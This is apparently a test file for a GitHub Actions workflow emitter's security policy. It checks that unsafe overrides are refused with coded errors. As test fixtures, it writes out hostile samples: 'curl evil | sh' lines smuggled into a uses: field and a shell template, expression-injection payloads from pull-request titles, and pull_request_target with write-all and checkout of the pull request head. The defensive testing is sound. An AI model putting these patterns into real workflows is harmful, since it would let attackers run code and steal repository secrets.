/**
 * The GitHub workflow policy on the final data: the six override bypasses found by the security
 * review (and more), each ending as a coded error naming the pipeline and the field, nothing emitted;
 * and our own output, examples and random pipelines, passing the same policy.
 */
import { spawnSync } from 'node:child_process';
import { cloud, dbt, pipeline, state, trigger, upload, type SluiceIR } from '@sluice/sdk/ir';
import { emitGithub, githubPolicyViolations, snapshotPlainData, withComment, type PlainData } from '@sluice/targets';
import { compileProject } from '@sluice/compiler';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { pipelineArbitrary } from './helpers/arbitraries.js';
import { irOf } from './helpers/ir.js';
import { examplesWithConfig, makeProject, REPO_ROOT, SLUICE_BIN, snapshotTree } from './helpers/project.js';
import { actionlintFindings, githubParserErrors } from './helpers/validators.js';

const SHA = '3d3c42e5aac5ba805825da76410c181273ba90b1';
const ir = irOf(pipeline('daily', { triggers: [trigger.schedule('0 6 * * *')], steps: () => ({ build: dbt.build() }) }));
type Step = Record<string, unknown>;
type Job = { permissions?: unknown; steps: Step[]; [key: string]: unknown };
type Override = (workflow: Record<string, unknown>) => Record<string, unknown>;

const theJob = (workflow: Record<string, unknown>): Job => (workflow.jobs as Record<string, Job>).daily as Job;
const withStep = (step: Step): Override => (workflow) => {
  theJob(workflow).steps.push(step);
  return workflow;
};

function refused(override: Override, target: SluiceIR = ir) {
  const result = emitGithub(target, { override });
  expect(result.files).toEqual([]);
  expect(result.diagnostics.length).toBeGreaterThan(0);
  for (const diagnostic of result.diagnostics) {
    expect(diagnostic.path.slice(0, 3)).toEqual(['sluice.config.ts', 'targets.github.override', `pipeline ${target.pipelines[0]?.name}`]);
    expect(diagnostic.hint).toBeTruthy();
  }
  return result.diagnostics.map((d) => ({ code: d.code, at: d.path[3], rule: /\[([a-z-]+)\]\.$/.exec(d.message)?.[1] }));
}

describe('the six bypasses of the old override re-check', () => {
  it('1. a run: built from a non-plain object (String object, toString, toJSON) is refused as not plain data', () => {
    const evil = 'echo ${{ github.event.pull_request.title }}';
    for (const run of [new String(evil), { toString: () => evil }, { toJSON: () => evil }]) {
      expect(refused(withStep({ run }))).toEqual([{ code: 'SLUICE_E_OVERRIDE_NOT_PLAIN', at: expect.stringMatching(/^jobs\.daily\.steps\[\d+\]\.run/), rule: undefined }]);
    }
  });

  it('2. a newline inside a pinned uses: (or its comment) cannot add a step', () => {
    const injected = `actions/checkout@${SHA} # v7\n      - run: curl evil | sh`;
    expect(refused(withStep({ uses: injected, with: { 'persist-credentials': false } }))).toEqual([
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.daily.steps[4].uses', rule: 'unpinned-action' },
    ]);
    // Sluice's own comment carrier is a class instance: refused, so only Sluice writes comments.
    const commented = withComment(`actions/checkout@${SHA}`, 'v7\n      - run: curl evil | sh');
    expect(refused(withStep({ uses: commented, with: { 'persist-credentials': false } }))[0]?.code).toBe('SLUICE_E_OVERRIDE_NOT_PLAIN');
  });

  it('3. a getter that answers the check and the writer differently is never called', () => {
    let reads = 0;
    const step = {};
    Object.defineProperty(step, 'run', { enumerable: true, get: () => (reads++ === 0 ? 'echo safe' : 'echo ${{ github.head_ref }}') });
    expect(refused(withStep(step))).toEqual([{ code: 'SLUICE_E_OVERRIDE_NOT_PLAIN', at: 'jobs.daily.steps[4].run', rule: undefined }]);
    expect(reads).toBe(0);
    const proxy = new Proxy({ run: 'echo safe' }, { get: () => 'echo ${{ github.head_ref }}' });
    expect(refused(withStep(proxy))[0]?.code).toBe('SLUICE_E_OVERRIDE_NOT_PLAIN');
    expect(refused(() => new Proxy({}, {}))[0]?.code).toBe('SLUICE_E_OVERRIDE_NOT_PLAIN');
  });

  it('4. with.script of a script-running action is code', () => {
    const script = 'core.info("${{ github.event.issue.title }}")';
    expect(refused(withStep({ uses: `actions/github-script@${SHA}`, with: { script } }))).toEqual([
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.daily.steps[4].with.script', rule: 'expression-in-code' },
    ]);
    expect(refused(withStep({ uses: `azure/cli@${SHA}`, with: { inlineScript: 'az ${{ inputs.x }}' } }))[0]?.rule).toBe('expression-in-code');
    expect(refused(withStep({ uses: `someone/runner@${SHA}`, with: { 'run-command': 'x', command: 'echo ${{ github.head_ref }}' } }))[0]?.at).toBe('jobs.daily.steps[4].with.command');
    // A static script is like a run: body; a value passed as an ordinary input is fine.
    expect(emitGithub(ir, { override: withStep({ uses: `actions/github-script@${SHA}`, with: { script: 'core.info(process.env.TITLE)', 'github-token': '${{ secrets.X }}' } }) }).diagnostics).toEqual([]);
  });

  it('5. a job-level reusable workflow at @main with secrets: inherit', () => {
    const override: Override = (workflow) => ({
      ...workflow,
      jobs: { ...(workflow.jobs as object), deploy: { uses: 'acme/workflows/.github/workflows/deploy.yml@main', secrets: 'inherit' } },
    });
    expect(refused(override)).toEqual([
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.deploy.secrets', rule: 'secrets-inherit' },
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.deploy.uses', rule: 'unpinned-action' },
    ]);
    const pinned: Override = (workflow) => ({
      ...workflow,
      jobs: { ...(workflow.jobs as object), deploy: { uses: `acme/workflows/.github/workflows/deploy.yml@${SHA}`, secrets: { TOKEN: '${{ secrets.TOKEN }}' } } },
    });
    expect(emitGithub(ir, { override: pinned }).diagnostics).toEqual([]);
  });

  it('6. pull_request_target + write-all + persist-credentials: true + checkout of the pull request head', () => {
    const override: Override = (workflow) => {
      const job = theJob(workflow);
      job.permissions = 'write-all';
      const checkout = job.steps[0] as Step;
      checkout.with = { 'persist-credentials': true, ref: '${{ github.event.pull_request.head.sha }}' };
      return { ...workflow, on: { pull_request_target: { types: ['opened'] } } };
    };
    expect(refused(override)).toEqual([
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'on.pull_request_target', rule: 'dangerous-trigger' },
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.daily.permissions', rule: 'permissions' },
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.daily.steps[0].with.ref', rule: 'expression-in-input' },
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.daily.steps[0].with.persist-credentials', rule: 'persist-credentials' },
      { code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.daily.steps[0].with.ref', rule: 'untrusted-checkout' },
    ]);
    // The other spellings of `on`.
    expect(refused((workflow) => ({ ...workflow, on: 'workflow_run' }))[0]?.rule).toBe('dangerous-trigger');
    expect(refused((workflow) => ({ ...workflow, on: ['push', 'pull_request_target'] }))[0]?.rule).toBe('dangerous-trigger');
  });
});

describe('more holes an override could open', () => {
  it.each<[string, Override, string, string]>([
    ['a shell template', withStep({ run: 'x', shell: 'perl {0}' }), 'jobs.daily.steps[4].shell', 'shell'],
    ['a job default shell template', (w) => ({ ...w, defaults: { run: { shell: 'bash -c "$(curl evil)" {0}' } } }), 'defaults.run.shell', 'shell'],
    ['two expressions in one if:', withStep({ run: 'x', if: '${{ false }} && ${{ false }}' }), 'jobs.daily.steps[4].if', 'unsound-condition'],
    ['an expression in working-directory', withStep({ run: 'x', 'working-directory': '${{ github.head_ref }}' }), 'jobs.daily.steps[4].working-directory', 'expression-in-field'],
    ['an expression in a step name', withStep({ run: 'x', name: '${{ github.event.pull_request.title }}' }), 'jobs.daily.steps[4].name', 'expression-in-field'],
    ['BASH_ENV from an expression', withStep({ run: 'x', env: { BASH_ENV: '${{ github.event.pull_request.body }}' } }), 'jobs.daily.steps[4].env.BASH_ENV', 'expression-in-code'],
    ['a reserved env name', (w) => ({ ...w, env: { GITHUB_ENV: '/tmp/x' } }), 'env.GITHUB_ENV', 'env-name'],
    ['a docker:// action', withStep({ uses: 'docker://alpine:3' }), 'jobs.daily.steps[4].uses', 'unpinned-action'],
    ['a path that climbs out', withStep({ uses: `acme/actions/../../evil@${SHA}` }), 'jobs.daily.steps[4].uses', 'unpinned-action'],
    ['a local action', withStep({ uses: './.github/actions/x' }), 'jobs.daily.steps[4].uses', 'unpinned-action'],
    ['a write scope no step needs', (w) => { theJob(w).permissions = { contents: 'read', 'pull-requests': 'write' }; return w; }, 'jobs.daily.permissions.pull-requests', 'permissions'],
    ['write at the workflow level', (w) => ({ ...w, permissions: { contents: 'write' } }), 'permissions.contents', 'permissions'],
    ['no permissions anywhere', (w) => { const { permissions: _p, ...rest } = w; delete theJob(rest).permissions; return rest; }, 'jobs.daily.permissions', 'permissions'],
    ['a checkout without with:', withStep({ uses: `actions/checkout@${SHA}` }), 'jobs.daily.steps[4].with', 'persist-credentials'],
    ['a bidi override in a name', (w) => ({ ...w, name: 'daily\u202Etxt.exe' }), 'name', 'invisible-character'],
    ['an expression in a key', (w) => ({ ...w, env: { '${{ github.head_ref }}': 'x' } }), 'env.${{ github.head_ref }}', 'expression-in-field'],
    ['a step with run: and uses:', withStep({ run: 'x', uses: `actions/cache@${SHA}` }), 'jobs.daily.steps[4]', 'workflow-shape'],
    ['no jobs', () => ({ on: { push: null } }), 'jobs', 'workflow-shape'],
    ['two expressions in a job if:', (w) => { theJob(w).if = 'ok ${{ always() }}'; return w; }, 'jobs.daily.if', 'unsound-condition'],
    ['container options from an expression', (w) => { theJob(w).container = { image: 'dbt:1', options: '${{ github.event.pull_request.title }}' }; return w; }, 'jobs.daily.container.options', 'expression-in-code'],
    ['a service env loading code', (w) => { theJob(w).services = { db: { image: 'postgres:16', env: { LD_PRELOAD: '${{ inputs.lib }}' } } }; return w; }, 'jobs.daily.services.db.env.LD_PRELOAD', 'expression-in-code'],
    ['an uppercase checkout with persisted credentials', withStep({ uses: `Actions/Checkout@${SHA}`, with: { 'persist-credentials': 'true' } }), 'jobs.daily.steps[4].with.persist-credentials', 'persist-credentials'],
    ['a SHA followed by text', withStep({ uses: `actions/cache@${SHA} ` }), 'jobs.daily.steps[4].uses', 'unpinned-action'],
    ['a runner chosen by an expression', (w) => { theJob(w)['runs-on'] = ['self-hosted', '${{ github.event.pull_request.title }}']; return w; }, 'jobs.daily.runs-on', 'expression-in-field'],
    ['a short SHA', withStep({ uses: 'actions/cache@3d3c42e' }), 'jobs.daily.steps[4].uses', 'unpinned-action'],
  ])('%s', (_name, override, at, rule) => {
    expect(refused(override)).toContainEqual({ code: 'SLUICE_E_OVERRIDE_UNSAFE', at, rule });
  });

  it('values that are not plain data, and an override that throws, are coded errors', () => {
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    let deep: Record<string, unknown> = {};
    for (let depth = 0; depth < 20_000; depth += 1) deep = { deep };
    for (const override of [
      () => cyclic,
      () => deep,
      (w: Record<string, unknown>) => ({ ...w, [Symbol('x')]: 1 }),
      (w: Record<string, unknown>) => ({ ...w, name: () => 'x' }),
      (w: Record<string, unknown>) => ({ ...w, 'timeout-minutes': Number.NaN }),
      () => Promise.resolve({}) as unknown as Record<string, unknown>,
    ]) {
      expect(refused(override)[0]?.code).toBe('SLUICE_E_OVERRIDE_NOT_PLAIN');
    }
    expect(refused(() => {
      throw new Error('boom');
    })).toEqual([{ code: 'SLUICE_E_OVERRIDE_THREW', at: '(the call)', rule: undefined }]);
    expect(refused(() => {
      throw new Proxy({}, { getPrototypeOf: () => { throw new Error('trap'); } });
    })[0]?.code).toBe('SLUICE_E_OVERRIDE_THREW');
  });

  it('adding a pull_request trigger to a pipeline that publishes Pages is refused (its contents: write)', () => {
    const pages = irOf(pipeline('docs', { triggers: [trigger.schedule('0 6 * * *')], steps: () => { const docs = dbt.docs(); return { docs, publish: upload.githubPages({ from: docs.site }) }; } }));
    expect(emitGithub(pages).diagnostics).toEqual([]);
    const diagnostics = emitGithub(pages, { override: (w) => ({ ...w, on: { ...(w.on as object), pull_request: null } }) }).diagnostics;
    expect(diagnostics.map((d) => d.path[3])).toEqual(['jobs.docs.permissions.contents', expect.stringMatching(/^jobs\.docs\.steps\[\d+\]\.run$/)]);
  });
});

describe('snapshots keep exactly what is written', () => {
  it('plain data survives a snapshot unchanged; anything else is refused', () => {
    const plain = fc.letrec<{ value: PlainData }>((tie) => ({
      value: fc.oneof(
        { depthSize: 'small' },
        fc.constant(null), fc.boolean(), fc.string(), fc.double({ noNaN: true, noDefaultInfinity: true }),
        fc.array(tie('value'), { maxLength: 4 }),
        fc.dictionary(fc.string(), tie('value'), { maxKeys: 4 }),
      ),
    })).value;
    fc.assert(fc.property(plain, (value) => {
      const snapshot = snapshotPlainData(value);
      expect(snapshot).toEqual({ ok: true, value });
    }), { numRuns: 300 });
    class Workflow {
      jobs = {};
    }
    for (const value of [new Workflow(), new Date(0), new Map(), [1, , 3], Object.assign([1], { extra: 1 }), undefined, 10n, Symbol('x')]) {
      expect(snapshotPlainData(value).ok).toBe(false);
    }
  });
});

describe('our own output passes the policy', () => {
  const policyOf = (content: string) => githubPolicyViolations(parse(content) as PlainData, { writableScopes: new Map([['daily', new Set()]]) });

  it('every example workflow (the writable scopes of its own job)', async () => {
    for (const example of examplesWithConfig()) {
      const result = await compileProject({ cwd: `${REPO_ROOT}/examples/${example}`, target: 'github' });
      expect(result.diagnostics).toEqual([]);
      for (const file of result.files.filter((f) => f.path.endsWith('.yml'))) {
        const workflow = parse(file.content) as { jobs: Record<string, { permissions: Record<string, string> }> };
        const writable = new Map(Object.entries(workflow.jobs).map(([id, job]) => [id, new Set(Object.keys(job.permissions).filter((s) => job.permissions[s] === 'write'))]));
        expect(githubPolicyViolations(workflow as unknown as PlainData, { writableScopes: writable }), file.path).toEqual([]);
      }
    }
  });

  it('random pipelines (the emitter itself runs the policy and refuses nothing)', () => {
    fc.assert(fc.property(pipelineArbitrary(6), (generated) => {
      const result = emitGithub({ irVersion: ir.irVersion, source: 'pipeline.ts', dbtProjectDir: '.', pipelines: [generated] });
      expect(result.diagnostics).toEqual([]);
    }), { numRuns: 100 });
  });

  it('a pipeline with cloud credentials keeps only its own id-token: write', async () => {
    const withCloud = irOf(pipeline('daily', { triggers: [trigger.schedule('0 6 * * *')], cloud: cloud.aws({ roleToAssume: 'arn:aws:iam::1:role/x', region: 'eu-west-1' }), steps: () => ({ build: dbt.build() }) }));
    const result = emitGithub(withCloud);
    expect(result.diagnostics).toEqual([]);
    const file = result.files[0] as { path: string; content: string };
    expect(policyOf(file.content).map((v) => v.at)).toEqual(['jobs.daily.permissions.id-token']);
    expect(await githubParserErrors(file.path, file.content)).toEqual([]);
    expect(await actionlintFindings(file.path, file.content)).toEqual([]);
  });

  it('an allowed override still passes GitHub’s parser and actionlint, with our pin comments kept', async () => {
    const result = emitGithub(ir, { override: withStep({ uses: `actions/github-script@${SHA}`, env: { TITLE: '${{ github.event.head_commit.message }}' }, with: { script: 'core.info(process.env.TITLE)' } }) });
    const file = result.files[0] as { path: string; content: string };
    expect(file.content).toMatch(/uses: actions\/checkout@[0-9a-f]{40} # v/);
    expect(file.content).toContain(`uses: actions/github-script@${SHA}\n`);
    expect(await githubParserErrors(file.path, file.content)).toEqual([]);
    expect(await actionlintFindings(file.path, file.content)).toEqual([]);
  });
});

describe('state from GitHub artifacts and Pages on pull requests', () => {
  it('a pull-request pipeline that publishes Pages or saves state is refused by name', () => {
    const prPages = irOf(pipeline('preview', { triggers: [trigger.pullRequest()], steps: () => { const docs = dbt.docs(); return { docs, publish: upload.githubPages({ from: docs.site }) }; } }));
    const prSave = irOf(pipeline('ci', { triggers: [trigger.pullRequest(), trigger.manual()], steps: () => { const run = dbt.build(); return { run, save: state.githubArtifact({ pipeline: 'ci' }).save({ needs: run }) }; } }));
    for (const [target, step] of [[prPages, 'publish'], [prSave, 'save']] as const) {
      const result = emitGithub(target);
      expect(result.files).toEqual([]);
      expect(result.diagnostics.map((d) => [d.code, d.path])).toEqual([['SLUICE_E_PULL_REQUEST_WRITE', [`pipeline ${target.pipelines[0]?.name}`, `step ${step}`, 'target github']]]);
    }
  });
});

describe('through the real CLI: each bypass in sluice.config.ts is refused, nothing written', () => {
  const PIPELINE = "import { dbt, pipeline, trigger } from '@sluice/sdk';\nexport const daily = pipeline('daily', { triggers: [trigger.schedule('0 6 * * *')], steps: () => ({ build: dbt.build() }) });\n";
  const config = (body: string): string =>
    `import { defineConfig } from '@sluice/sdk';\nconst SHA = '${SHA}';\nexport default defineConfig({ target: 'github', targets: { github: { override: (workflow: any) => {\n  const job = workflow.jobs.daily;\n${body}\n  return workflow;\n} } } });\n`;
  const cases: [string, string, string, string][] = [
    ['non-plain run', "job.steps.push({ run: { toString: () => 'echo ${{ github.head_ref }}' } });", 'SLUICE_E_OVERRIDE_NOT_PLAIN', 'jobs.daily.steps[4].run'],
    ['newline in uses', "job.steps.push({ uses: `actions/cache@${SHA} # v5\\n      - run: curl evil | sh` });", 'SLUICE_E_OVERRIDE_UNSAFE', 'jobs.daily.steps[4].uses'],
    ['getter', "let n = 0; const step: any = {}; Object.defineProperty(step, 'run', { enumerable: true, get: () => (n++ ? 'echo ${{ github.head_ref }}' : 'echo ok') }); job.steps.push(step);", 'SLUICE_E_OVERRIDE_NOT_PLAIN', 'jobs.daily.steps[4].run'],
    ['github-script', "job.steps.push({ uses: `actions/github-script@${SHA}`, with: { script: 'console.log(\"${{ github.event.issue.title }}\")' } });", 'SLUICE_E_OVERRIDE_UNSAFE', 'jobs.daily.steps[4].with.script'],
    ['reusable workflow', "workflow.jobs.deploy = { uses: 'acme/ci/.github/workflows/deploy.yml@main', secrets: 'inherit' };", 'SLUICE_E_OVERRIDE_UNSAFE', 'jobs.deploy.secrets'],
    ['pull_request_target', "workflow.on = { pull_request_target: null }; job.permissions = 'write-all'; job.steps[0].with = { 'persist-credentials': true, ref: '${{ github.event.pull_request.head.sha }}' };", 'SLUICE_E_OVERRIDE_UNSAFE', 'on.pull_request_target'],
  ];
  it.concurrent.each(cases)('%s', async (_name, body, code, at) => {
    const dir = makeProject({ 'pipeline.ts': PIPELINE, 'sluice.config.ts': config(body) });
    const before = snapshotTree(dir);
    const result = spawnSync(process.execPath, [SLUICE_BIN, 'compile'], { cwd: dir, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    expect(result.status, result.stderr).toBe(1);
    expect(result.stderr).toContain(code);
    expect(result.stderr).toContain(at);
    expect(result.stderr).toContain("pipeline 'daily'");
    expect(result.stderr).not.toMatch(/^\s+at .*:\d+:\d+\)?$/m);
    expect(snapshotTree(dir)).toEqual(before);
  });
});

describe('red team: the final workflow, whatever the override did to its triggers', () => {
  const saving = irOf(pipeline('prod', { triggers: [trigger.schedule('0 6 * * *')], steps: () => { const run = dbt.build(); return { run, save: state.githubArtifact({ pipeline: 'prod' }).save({ needs: run }) }; } }));
  const pages = irOf(pipeline('docs', { triggers: [trigger.schedule('0 6 * * *')], steps: () => { const docs = dbt.docs(); return { docs, publish: upload.githubPages({ from: docs.site }) }; } }));
  const OUTSIDER_EVENTS = ['pull_request', 'pull_request_target', 'issue_comment', 'pull_request_review', 'pull_request_review_comment', 'workflow_run', 'discussion', 'discussion_comment', 'fork', 'issues'];
  const addTrigger = (event: string): Override => (w) => ({ ...w, on: { ...(w.on as object), [event]: null } });
  const rules = (target: SluiceIR, override: Override) => emitGithub(target, { override }).diagnostics.map((d) => /\[([a-z-]+)\]\.$/.exec(d.message)?.[1]);

  it('a workflow that saves state or publishes Pages may not gain any event an outsider can start', () => {
    expect(emitGithub(saving).diagnostics).toEqual([]);
    for (const event of OUTSIDER_EVENTS) {
      expect(rules(saving, addTrigger(event))).toContain('outsider-write');
      expect(rules(pages, addTrigger(event)).length).toBeGreaterThan(0);
      expect(rules(pages, addTrigger(event))).toContain('outsider-write');
    }
    // A trusted trigger added by an override stays fine.
    expect(emitGithub(saving, { override: addTrigger('workflow_dispatch') }).diagnostics).toEqual([]);
    // The list form of on: counts too.
    expect(rules(saving, (w) => ({ ...w, on: ['schedule', 'issue_comment'] }))).toContain('outsider-write');
  });

  it('an outsider-started workflow runs on GitHub-hosted runners only', () => {
    const pr = irOf(pipeline('daily', { triggers: [trigger.pullRequest()], steps: () => ({ build: dbt.build() }) }));
    const on = (runsOn: unknown): Override => (w) => { (w.jobs as Record<string, Job>).daily!['runs-on'] = runsOn; return w; };
    for (const label of ['self-hosted', ['self-hosted', 'linux'], 'my-gpu-box', { group: 'prod' }]) expect(rules(pr, on(label))).toContain('self-hosted-runner');
    expect(emitGithub(pr, { override: on('ubuntu-22.04') }).diagnostics).toEqual([]);
    // A scheduled workflow may use the team's own runners.
    expect(emitGithub(ir, { override: on(['self-hosted', 'linux']) }).diagnostics).toEqual([]);
  });

  it('an image an override sets is pinned by digest', () => {
    const digest = `postgres@sha256:${'a'.repeat(64)}`;
    const withImage = (container: unknown, services?: unknown): Override => (w) => { Object.assign(theJob(w), { container, ...(services ? { services } : {}) }); return w; };
    for (const image of ['postgres', 'postgres:latest', 'postgres:16', 'ghcr.io/x/y:1@sha256:short']) {
      expect(refused(withImage({ image }))).toEqual([{ code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.daily.container.image', rule: 'unpinned-image' }]);
      expect(refused(withImage(undefined, { db: { image } }))).toEqual([{ code: 'SLUICE_E_OVERRIDE_UNSAFE', at: 'jobs.daily.services.db.image', rule: 'unpinned-image' }]);
    }
    expect(refused(withImage('postgres:latest'))[0]?.rule).toBe('unpinned-image');
    expect(emitGithub(ir, { override: withImage({ image: digest }, { db: { image: `ghcr.io/x/y:16@sha256:${'b'.repeat(64)}` } }) }).diagnostics).toEqual([]);
  });
});

describe('red team: ${{ }} in an action input an override writes', () => {
  const input = (value: string, key = 'args'): Override => withStep({ uses: `someone/tool@${SHA}`, with: { [key]: value } });
  it('is refused unless the whole value is one token reference', () => {
    for (const key of ['args', 'cmd', 'query', 'anything']) {
      expect(refused(input('--x ${{ github.event.issue.title }}', key))).toEqual([{ code: 'SLUICE_E_OVERRIDE_UNSAFE', at: `jobs.daily.steps[4].with.${key}`, rule: 'expression-in-input' }]);
    }
    for (const value of ['${{ github.head_ref }}', 'x${{ secrets.TOKEN }}', '${{ secrets.A }}${{ secrets.B }}', '${{ secrets.A || github.head_ref }}', '${{ steps.a.outputs.b }} ']) {
      expect(refused(input(value))[0]?.rule).toBe('expression-in-input');
    }
    for (const value of ['${{ secrets.DEPLOY_KEY }}', '${{ github.token }}', '${{steps.setup.outputs.path}}', 'plain text']) {
      expect(emitGithub(ir, { override: input(value) }).diagnostics).toEqual([]);
    }
  });
});
